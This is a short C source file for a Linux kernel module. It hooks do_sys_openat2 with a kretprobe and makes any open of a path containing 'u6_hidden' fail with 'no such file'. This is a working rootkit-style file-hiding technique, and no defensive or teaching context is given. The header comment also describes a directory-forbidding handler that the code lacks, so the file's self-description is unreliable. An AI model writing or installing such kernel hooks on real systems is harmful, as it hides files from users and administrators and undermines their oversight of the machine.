/* a return handler that hides a file, and an entry handler that forbids a directory */
#include <linux/module.h>
#include <linux/kprobes.h>
#include <linux/uaccess.h>
#include <linux/fs.h>
#include <linux/string.h>
struct call { char name[64]; };
static int entry(struct kretprobe_instance *ri, struct pt_regs *regs)
{
	struct call *c = (struct call *)ri->data;
	c->name[0] = 0;
	copy_from_user_nofault(c->name, (const char __user *)regs->si, sizeof(c->name));
	c->name[63] = 0;
	return 0;
}
static int ret(struct kretprobe_instance *ri, struct pt_regs *regs)
{
	struct call *c = (struct call *)ri->data;
	if (strstr(c->name, "u6_hidden") && (long)regs->ax >= 0) { pr_info("hides %s\n", c->name); regs->ax = -ENOENT; }
	return 0;
}
static struct kretprobe rp = { .kp.symbol_name = "do_sys_openat2", .entry_handler = entry, .handler = ret, .data_size = sizeof(struct call), .maxactive = 20 };
static int __init i(void) { int e = register_kretprobe(&rp); pr_info("registered %d\n", e); return e; }
static void __exit e(void) { unregister_kretprobe(&rp); }
module_init(i); module_exit(e); MODULE_LICENSE("GPL");
